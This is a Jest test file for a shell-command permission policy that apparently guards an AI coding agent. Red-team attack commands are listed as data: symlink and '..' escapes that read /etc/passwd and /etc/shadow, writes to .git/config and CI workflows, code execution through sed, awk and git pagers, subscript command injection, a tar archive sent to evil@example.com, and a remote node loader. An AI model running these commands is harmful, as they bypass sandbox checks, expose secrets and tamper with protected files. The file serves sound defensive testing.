import { afterAll, describe, expect, it } from '@jest/globals';
import { decide } from '../../src/policy/decide.js';
import type { RuleId } from '../../src/policy/rules.js';
import { makeAttackWorld } from './attack-world.js';
import { fixturePolicy } from './workspace.js';

/**
 * Issue 14's red team, under its generous maintainer policy, in a workspace with `a -> .`,
 * `self -> .`, a directory named `-`, archives and patches aimed at protected paths. Every row
 * names the rule that must refuse it: a row cannot pass because some other check happened to fire.
 */
const policy = fixturePolicy('maintainer.yml');
const world = makeAttackWorld();
const { ctx } = world;
afterAll(world.cleanup);

type Attack = [command: string, rule: RuleId];

const ATTACKS: Record<string, Attack[]> = {
  '.. after a symlink is the parent of its target': [
    ['cat a/../secret.txt', 'path-outside'],
    ['cat self/../secret.txt', 'path-outside'],
    ['cat a/a/a/../secret.txt', 'path-outside'],
    ['cp f a/../ws/.git/config', 'path-protected-write'],
    ['tee a/../ws/.git/config < f', 'path-protected-write'],
    ['echo x > a/../x', 'path-outside'],
    ['cat < a/../secret.txt', 'path-outside'],
    ['find a/../', 'path-outside'],
    ['find a/.. -name x', 'path-outside'],
    ['sort -o a/../x f', 'path-outside'],
    ['sort -oa/../x f', 'path-outside'],
    ['git diff --no-index a/../secret.txt f', 'path-outside'],
    ['cd a && cat ../secret.txt', 'path-outside'],
    ['cat up/../../secret.txt', 'path-outside']
  ],
  'absolute paths whose directories do not exist are outside': [
    ['mkdir -p /newdir/x', 'path-outside'],
    ['cat /nonexistent/x', 'path-outside'],
    ['python3 /elsewhere/t.py', 'path-outside'],
    ['touch /kubrick-new-file', 'path-outside'],
    ['echo x > /newdir/file', 'path-outside']
  ],
  'operands that start with -': [
    ['cat -- -/../../../etc/passwd', 'path-outside'],
    ['cat -- -/../../secret.txt', 'path-outside'],
    ['rm -rf -- -/../.git', 'path-protected-write'],
    ['rm -r -- -/..', 'workspace-root'],
    ['cp f -- -/../.git/config', 'path-protected-write'],
    ['head -n 1 -- -/../../secret.txt', 'path-outside']
  ],
  'attached values and clusters': [
    ['cp -t.git f', 'path-protected-write'],
    ['cp -t .git f', 'path-protected-write'],
    ['cp --target-directory=.git f', 'path-protected-write'],
    ['cp --target=.git f', 'path-protected-write'],
    ['cp -vt.git f', 'path-protected-write'],
    ['tar -cf - -C/etc passwd', 'path-outside'],
    ['tar -cf out.tar -C /etc passwd', 'path-outside'],
    ['tar --directory=/etc -cf out.tar passwd', 'path-outside'],
    ['tar -T/etc/passwd -cf out.tar', 'path-outside'],
    ['tar -cT /etc/passwd -f out.tar', 'path-outside'],
    ['file -f/etc/passwd', 'path-outside'],
    ['file --files-from=/etc/passwd', 'path-outside'],
    ['file -m/etc/passwd f', 'path-outside'],
    ['git blame -S/etc/passwd f', 'path-outside'],
    ['git blame --contents=/etc/passwd f', 'path-outside'],
    ['sort -mo.git/config f', 'path-protected-write'],
    ['sort -m -o .git/config f', 'path-protected-write'],
    ['sort --output=.git/config f', 'path-protected-write'],
    ['sort --out=.git/config f', 'path-protected-write'],
    ['sort f -o.git/config', 'path-protected-write'],
    ['jq -L/tmp . data.json', 'path-outside'],
    ['jq -L /tmp . data.json', 'path-outside'],
    ['jq --library-path /tmp . data.json', 'path-outside'],
    ['jq --rawfile x /etc/passwd . data.json', 'path-outside'],
    ['jq --slurpfile x /etc/passwd . data.json', 'path-outside'],
    ['git grep -iO./evil.sh foo', 'git-external-program'],
    ['git grep -O foo', 'git-external-program'],
    ['git grep --open-files-in-pager=sh foo', 'git-external-program'],
    ['git grep --open foo', 'git-external-program'],
    ["sed -i'.git/con*' s/a/b/ f", 'sed-in-place-suffix'],
    ['sed --in-place=/x s/a/b/ f', 'sed-in-place-suffix'],
    ['sed -i.bak s/a/b/ .git/config', 'path-protected-write'],
    ['sed -ni s/a/b/ .github/workflows/ci.yml', 'path-protected-write'],
    ['grep -f/etc/passwd f', 'path-outside'],
    ['grep --file=/etc/passwd f', 'path-outside'],
    ['rg --ignore-file=/etc/passwd foo', 'path-outside'],
    ['diff --from-file=/etc/passwd f', 'path-outside'],
    ['wc --files0-from=/etc/passwd', 'path-outside'],
    ['touch -r/etc/passwd f', 'path-outside'],
    ['git commit -F/etc/passwd', 'path-outside'],
    ['git add --pathspec-from-file=/etc/passwd', 'path-outside']
  ],
  'script arguments anywhere on the line': [
    ["sed p -e '1e id' f", 'sed-exec'],
    ["sed -n p --expression='1e id' f", 'sed-exec'],
    ["sed -e p f -e 's/x/id/e'", 'sed-exec'],
    ['sed p -f evil.sed f', 'sed-exec'],
    ['sed -f evil-w.sed f', 'sed-file'],
    ["sed p -e 'w .git/config' f", 'sed-file'],
    ["sed p -e '1r /etc/passwd' f", 'sed-file'],
    ["sed 's/a/b/w out' f", 'sed-file'],
    ["sed '1R x' f", 'sed-file'],
    ["sed '/x/{e id\n}' f", 'sed-exec'],
    ["sed -e 'a\\' -e 'x' -e '1e id' f", 'sed-exec'],
    ['sed -f missing.sed f', 'sed-script-file'],
    ["sed 'k' f", 'sed-unparsed'],
    ['awk \'{ print > "file" }\' f', 'awk-file'],
    ['awk \'{ print $1 >> "out" }\' f', 'awk-file'],
    ['awk \'{ getline x < "/etc/passwd" }\' f', 'awk-file'],
    ['awk \'BEGIN { while ((getline line < "/etc/passwd") > 0) print line }\'', 'awk-file'],
    ['awk \'BEGIN { system("id") }\'', 'awk-exec'],
    ['awk \'BEGIN { system\\\n("id") }\'', 'awk-continuation'],
    ['awk \'{ print | "sh" }\' f', 'awk-exec'],
    ['awk \'BEGIN { "id" | getline x }\'', 'awk-exec'],
    ['awk \'BEGIN { print ENVIRON["HOME"] }\'', 'awk-environ'],
    ['awk \'BEGIN { ARGV[1] = "/etc/passwd" } { print }\' f', 'awk-argv'],
    ['npx jest --outputFile=.git/config', 'path-protected-write'],
    ['npx jest --outputFile=../x', 'path-outside'],
    ['tar -cf x.tar --newer=/etc/shadow .', 'path-outside'],
    ['tar -cf x.tar -N/etc/shadow .', 'path-outside'],
    ['tar -cf x.tar --mtime=../x .', 'path-outside'],
    ['awk \'BEGIN { split("/etc/passwd", ARGV); ARGC = 3 } { print }\'', 'awk-argv'],
    ["awk 'BEGIN { @f() }'", 'awk-indirect'],
    ['awk \'@load "x"\'', 'awk-indirect'],
    ['awk -f evil.awk f', 'awk-exec'],
    ['awk -lfilefuncs 1', 'awk-extension'],
    ['awk --load=x 1', 'awk-extension'],
    ['awk -e \'BEGIN { system("id") }\'', 'awk-exec'],
    ['jq \'import "../../etc/x" as x; .\' data.json', 'jq-module'],
    ['jq \'include "/etc/x"; .\' data.json', 'jq-module'],
    ['jq \'import "x" as x {search: "/etc"}; .\' data.json', 'jq-module']
  ],
  'paths a command creates in the same script': [
    ['ln -s . self2 && cp f self2/.git/config', 'path-protected-write'],
    ['ln -s . s3 && cat s3/../secret.txt', 'path-outside'],
    ['ln -s . s4; tee s4/.github/workflows/x.yml < f', 'path-protected-write'],
    ['ln -s /etc e && cat e/passwd', 'symlink-target'],
    ['ln -s .git g', 'symlink-target'],
    ['ln -s ../.. g', 'symlink-target'],
    ['ln -sf /etc/passwd x', 'symlink-target'],
    ['ln .git/config hard', 'path-protected-write'],
    ['cd src && cat ../../secret.txt', 'path-outside'],
    ['cd a && cd .. && cat secret.txt', 'path-outside'],
    ['mkdir d && cd d && cat ../../secret.txt', 'path-outside'],
    ['cp -s .git/config p', 'symlink-target'],
    ['cp -s /etc/passwd p', 'path-outside'],
    ['cp -P linkdir/out x && cat x/passwd', 'path-outside'],
    ['cp -d linkdir/out x', 'path-outside'],
    ['ln -s . linkdir/out && cat linkdir/out/passwd', 'path-outside'],
    ['ln -sf . a && cat a/../secret.txt', 'workspace-root'],
    ['ln -sfn . linkdir/out && cat linkdir/out/passwd', 'path-unresolvable'],
    ['ln -s . f; cat f/../secret.txt', 'path-unresolvable'],
    ['git checkout -- x && cat x/passwd', 'path-unresolvable'],
    ['git stash pop && cat src/a.ts', 'path-unresolvable'],
    ['git checkout main; tee src/a.ts < f', 'path-unresolvable']
  ],
  'expansions evaluated as bash does': [
    ['tee .github/{a..Z..2}k{a..Z..2}ubrick-policy.yml < f', 'glob-protected-write'],
    ['tee */.git/config < f', 'glob-protected-write'],
    ['tee .g?t/config < f', 'glob-protected-write'],
    ['tee [.]github/workflows/x.yml < f', 'glob-protected-write'],
    ['cp f .git*/config', 'glob-protected-write'],
    ['tee {.g,x}it/config < f', 'path-protected-write'],
    ['tee .{git,x}/config < f', 'path-protected-write'],
    ['rm -r .githu{a..c}', 'path-protected-write'],
    ['ls .*', 'glob-dotdot'],
    ['cat s*/../secret.txt', 'glob-dotdot'],
    ['cat {..,x}/secret.txt', 'path-outside'],
    ['cat {1..5000}', 'brace-too-large'],
    ['cat */../../secret.txt', 'glob-dotdot'],
    ['echo x > {a,b}', 'redirect-pattern']
  ],
  'writes decided by file contents': [
    ['tar -xf evil.tar', 'content-write'],
    ['tar xf evil.tar', 'content-write'],
    ['tar -xzf evil.tgz', 'content-write'],
    ['tar --extract --file=evil.tar', 'content-write'],
    ['tar -xf up.tar', 'content-write'],
    ['tar -xf links.tar', 'archive-link'],
    ['tar -xf dot.tar', 'content-write'],
    ['tar -xf x.tar -C .git', 'content-write'],
    ['tar -xf missing.tar', 'archive-unlisted'],
    ['tar -xf - < evil.tar', 'archive-unlisted'],
    ['tar -xPf x.tar', 'tar-absolute-names'],
    ['tar -cf out.tar -T evil-list.txt', 'program-option-exec'],
    ['tar -cf out.tar -T -', 'archive-unlisted'],
    ['tar -cf evil@example.com:/x src', 'program-option-exec'],
    ['tar -cf out.tar --files-from=/etc/passwd', 'path-outside'],
    ["tar -xf x.tar --transform='s,^,.git/,'", 'tar-absolute-names'],
    ['unzip evil.zip', 'content-write'],
    ['unzip -o evil.zip -d .', 'content-write'],
    ['git apply patches/git.patch', 'content-write'],
    ['git apply patches/workflow.patch', 'content-write'],
    ['git apply patches/up.patch', 'content-write'],
    ['git apply patches/symlink.patch', 'archive-link'],
    ['git apply patches/rename.patch', 'content-write'],
    ['git apply < patches/git.patch', 'content-write'],
    ['git apply --directory=.git patches/ok.patch', 'content-write'],
    ['git apply --cached patches/workflow.patch', 'content-write'],
    ['git apply -p1 patches/up.patch', 'content-write'],
    ['patch -p1 < patches/git.patch', 'content-write'],
    ['patch -p1 -i patches/workflow.patch', 'content-write'],
    ['patch < patches/up.patch', 'content-write'],
    ['patch -p1', 'archive-unlisted'],
    ['cp -r evil/. .', 'content-write'],
    ['cp -a evil/. .', 'content-write'],
    ['cp -R evil copy', 'content-write'],
    ['mv evil/.git .', 'path-protected-write'],
    ['mv evil x', 'content-write'],
    ['cp -r linkdir copy', 'archive-link']
  ],
  'builtins that evaluate array subscripts': [
    ["test -v 'a[$(id)]'", 'builtin-subscript'],
    ["[ -v 'a[$(id)]' ]", 'builtin-subscript'],
    ["test -R 'a[1]'", 'builtin-subscript'],
    ['printf -v x y', 'printf-assign'],
    ['printf -vx y', 'printf-assign'],
    ["declare 'a[$(id)]'", 'shell-state'],
    ["read 'a[$(id)]'", 'shell-state'],
    ["unset 'a[$(id)]'", 'shell-state'],
    ["let 'a[$(id)]'", 'shell-state'],
    ["mapfile 'a[$(id)]'", 'shell-state'],
    ["getopts x 'a[$(id)]'", 'shell-state'],
    ["[[ 'a[$(id)]' -eq 1 ]]", 'control-structure']
  ],
  'unknown options of a grammar program': [
    ['cat --bogus f', 'option-unknown'],
    ['sort -Q f', 'option-unknown'],
    ['sed --follow=x p f', 'option-unknown'],
    ['git diff --frobnicate', 'option-unknown'],
    ['tar -xf x.tar --bogus', 'option-unknown'],
    ['sort --s f', 'option-unknown']
  ],
  'interpreters and git outside the workspace root': [
    ['python3 -c "import os" /etc/passwd', 'path-outside'],
    ['python3 -m pytest --basetemp=.git', 'path-protected-write'],
    ['python3 -m pytest -o cache_dir=.git', 'path-protected-write'],
    ['python3 scripts/fmt.py --write .github/workflows/ci.yml', 'path-protected-write'],
    ['node /tmp/x.js', 'path-outside'],
    ['cd src && git status', 'git-repository-override'],
    ['git -C src status', 'git-repository-override'],
    ['git -c core.pager=sh diff', 'git-config-override'],
    ["git checkout HEAD~1 -- '*.yml'", 'glob-protected-write'],
    ["git restore --source=HEAD~1 '.githu?/*'", 'glob-protected-write'],
    ['git restore --source=HEAD~1 .github', 'path-protected-write'],
    ['git checkout HEAD~1 -- .github/workflows/ci.yml', 'path-protected-write']
  ]
};

/** Ordinary agent work that must stay allowed under the same policy. */
const ALLOWED: string[] = [
  'grep -rn "/usr/bin/env node" scripts',
  'cat .github/workflows/ci.yml',
  'cat .git/config',
  'grep -n lfs .git/config',
  "sed -n '1,80p' src/a.ts",
  "awk '{print $1}' f",
  "awk 'NR>=10 && NR<=20' f",
  "awk -F: '$2 > 5 { n++ } END { print n }' f",
  'awk -f ok.awk f',
  'tar -tf x.tar',
  'tar -tzf evil.tgz',
  'tar -xf x.tar',
  'tar xzf x.tgz',
  'tar -xf x.tar -C build',
  'tar -czf out.tgz src',
  'tar -cf out.tar -T list.txt',
  'tar -cf out.tar --verbatim-files-from -T evil-list.txt',
  'unzip ok.zip',
  'unzip -l evil.zip',
  'git diff --stat',
  'git diff HEAD~1 -- src',
  "find . -name '*.ts' -newer package.json",
  "find src -type f -name '*.ts' -print",
  'git apply patches/ok.patch',
  'git apply --check patches/git.patch',
  'git apply --numstat patches/git.patch',
  'git apply --stat < patches/workflow.patch',
  'patch -p1 < patches/ok.patch',
  'patch -p1 --dry-run < patches/git.patch',
  'cp -r src src2',
  'cp f g',
  'cp src/a.ts src/b.ts build/',
  'mv src/a.ts src/c.ts',
  'ln -s src/a.ts link.ts',
  'ln -s . a2',
  'cat a/src/a.ts',
  'cat ./-/placeholder',
  "sed -i.bak 's/a/b/' src/a.ts",
  "sed -i -e 's/a/b/' -e '/x/d' src/a.ts",
  'sed -f ok.sed f',
  "sed -n '/start/,/end/p;$=' f",
  "sed '1i\\\nheader' f",
  "sed -E 's#(a|b)#\\1x#g' f",
  'jq .a data.json',
  "jq -r '.name' package.json",
  "jq --arg n x '.[$n]' data.json",
  'git grep -n foo -- src',
  'git log --oneline -n 5',
  'git log -p -S foo -- src',
  'git log -5 --format=%H',
  'git blame -L 1,5 src/a.ts',
  'git show HEAD:src/a.ts',
  'git stash list',
  'git stash list && cat f',
  'git checkout -b fix && git add -A && git commit -m x',
  'git stash && npm test && git stash pop',
  'git stash',
  'git checkout -- src/a.ts',
  'git checkout -b feature',
  'git restore src/a.ts',
  'git restore --staged .',
  'git restore .',
  'git checkout .',
  "git checkout -- 'src/*.ts'",
  'git commit -m "fix: x"',
  'git commit -am "fix: x"',
  'git add -A',
  'git add src/a.ts',
  'git status --short',
  'git status -- src',
  'git rev-parse --show-toplevel',
  'git branch --show-current',
  'git ls-files src',
  'sort -o out.txt f',
  'sort -u f',
  'tee out.txt < f',
  'file src/a.ts',
  'node scripts/x.js',
  "python -c 'print(1)'",
  'python3 -m pytest -q',
  'mkdir -p build/x && cd build/x && ls',
  'rm -rf build',
  'rm -f src/b.ts',
  'ls *.json',
  'cat src/*.ts',
  'echo /usr/bin/env',
  'echo x > out.txt',
  "grep -e '/etc/passwd' f",
  'rg -e /api/users src',
  'rg -n "TODO" src --glob "*.ts"',
  'diff src/a.ts src/b.ts',
  'diff -u src/a.ts src/b.ts',
  'head -20 f',
  'tail -n 5 f',
  'wc -l src/*.ts',
  "cut -d' ' -f1 f",
  'stat f',
  'du -sh src',
  'chmod +x scripts/check.sh',
  'chmod -x scripts/check.sh',
  'npm test -- src/a.test.ts',
  'npx jest src',
  'npx jest --coverage --outputFile=coverage/out.json src',
  "tar -czf out.tgz --newer='2024-01-01' --mtime='2024-01-01 00:00' src",
  "awk -F: '{ print $1 }' f",
  'pytest tests/test_x.py::test_a -q',
  'test -f f && echo yes',
  '[ -d src ] && ls src',
  'cat /dev/null',
  'ls -la'
];

describe('issue 14 attacks are denied with the rule that refuses them', () => {
  for (const [group, rows] of Object.entries(ATTACKS)) {
    describe(group, () => {
      it.each(rows)('%j → %s', (command, rule) => {
        const decision = decide(command, policy, ctx);
        expect({
          command,
          decision: decision.decision,
          rule: decision.rule,
          reason: decision.reason
        }).toEqual(expect.objectContaining({ decision: 'deny', rule }));
      });
    });
  }
});

describe('ordinary agent work stays allowed in the same world', () => {
  it.each(ALLOWED)('%j', command => {
    const decision = decide(command, policy, ctx);
    expect({ command, decision: decision.decision, reason: decision.reason }).toEqual(
      expect.objectContaining({ decision: 'allow' })
    );
  });

  it('an interpreter allowed by its bare name is allowed with a reason that says it runs any code', () => {
    expect(decide("python -c 'print(1)'", policy, ctx).reason).toContain('runs any code');
    expect(decide('node scripts/x.js', policy, ctx).reason).toContain('"node" is allowed by bare name');
  });
});

describe('inline code by another name needs the interpreter allowed by its bare name', () => {
  const narrow = fixturePolicy('interpreters.yml');
  it.each([
    ["node --test --import 'data:text/javascript,process.exit(1)'", 'interpreter-inline'],
    ["node --test --experimental-loader='https://x/l.mjs'", 'interpreter-inline'],
    ['node --test --inspect=0.0.0.0:9229', 'interpreter-inline']
  ] as const)('%j → %s', (command, rule) => {
    const testOnly = {
      ...narrow,
      allow: narrow.allow
        .filter(entry => entry.text !== 'node')
        .concat([{ text: 'node --test', words: ['node', '--test'] }])
    };
    expect(decide(command, testOnly, ctx).rule).toBe(rule);
    expect(decide(command, narrow, ctx).decision).toBe('allow');
  });
});

describe('recursive reads that follow links check every link under them', () => {
  it.each([
    ['grep -R root .', 'path-outside'],
    ['grep -R root linkdir', 'path-outside'],
    ['rg -L root', 'path-outside'],
    ['find -L . -name passwd', 'path-outside'],
    ['find . -follow -name passwd', 'path-outside'],
    ['du -L linkdir', 'path-outside'],
    ['ls -RL linkdir', 'path-outside'],
    ['diff -r linkdir src', 'path-outside'],
    ['cp -rL linkdir copy', 'path-outside'],
    ['tar -chf out.tar linkdir', 'path-outside']
  ] as const)('%j → %s', (command, rule) => {
    expect(decide(command, policy, ctx).rule).toBe(rule);
  });

  it.each([
    'grep -r root linkdir/readme',
    'grep -rn root src',
    'rg root',
    'find . -name passwd',
    'diff -r --no-dereference linkdir src',
    'du -sh src',
    'ls -R src'
  ])('%j stays allowed', command => {
    expect(decide(command, policy, ctx)).toEqual(expect.objectContaining({ decision: 'allow' }));
  });
});

describe('git by its bare name: plumbing that stages content is not a known subcommand', () => {
  const git = { ...policy, allow: [...policy.allow, { text: 'git', words: ['git'] }] };
  it.each([
    ['git rm -r .github', 'path-protected-write'],
    ["git rm '*.yml'", 'glob-protected-write'],
    ['git mv .github/workflows/ci.yml x.yml', 'path-protected-write'],
    ['git clean -fdx .github', 'path-protected-write'],
    [
      'git update-index --cacheinfo 100644,0123456789abcdef0123456789abcdef01234567,.github/workflows/x.yml',
      'git-subcommand-unknown'
    ],
    ['git hash-object -w f', 'git-subcommand-unknown'],
    ['git difftool', 'git-runs-commands'],
    ['git submodule foreach id', 'git-runs-commands'],
    ['git clone -u x url dir', 'git-external-program'],
    ['git init --template=tpl', 'git-runs-commands'],
    ['git archive -o /tmp/x HEAD', 'git-output'],
    ['git st', 'git-subcommand-unknown']
  ] as const)('%j → %s', (command, rule) => {
    expect(decide(command, git, ctx).rule).toBe(rule);
  });

  it.each([
    'git rm --cached f',
    'git reset --hard HEAD',
    'git merge main',
    'git tag v1',
    'git remote -v',
    'git clean -fd'
  ])('%j is allowed', command => {
    expect(decide(command, git, ctx)).toEqual(expect.objectContaining({ decision: 'allow' }));
  });
});

describe('programs without a grammar: every path-like part of an argument is judged', () => {
  const generic = {
    ...policy,
    allow: [...policy.allow, ...['dd', 'make', 'install'].map(p => ({ text: p, words: [p] }))]
  };
  it.each([
    ['dd if=/etc/passwd of=x', 'path-outside'],
    ['dd if=f of=.git/config', 'path-protected-write'],
    ['make -f/etc/passwd', 'path-outside'],
    ['make --file=/etc/passwd', 'path-outside'],
    ['make -C /tmp', 'path-outside'],
    ['install -m 755 f /usr/local/bin/f', 'path-outside'],
    ['make OUT=../x', 'path-outside']
  ] as const)('%j → %s', (command, rule) => {
    expect(decide(command, generic, ctx).rule).toBe(rule);
  });

  it.each(['make', 'make test', 'make -j4 build', 'dd if=f of=g bs=1k count=1'])('%j is allowed', command => {
    expect(decide(command, generic, ctx)).toEqual(expect.objectContaining({ decision: 'allow' }));
  });
});

it('cp -P copies a link that stays inside as a link, and later commands see it', () => {
  // `a -> .` copied as a link: `b/..` is then the parent of the workspace.
  expect(decide('cp -P a b && cat b/../secret.txt', policy, ctx).rule).toBe('path-outside');
  expect(decide('cp -P a b', policy, ctx).decision).toBe('allow');
});
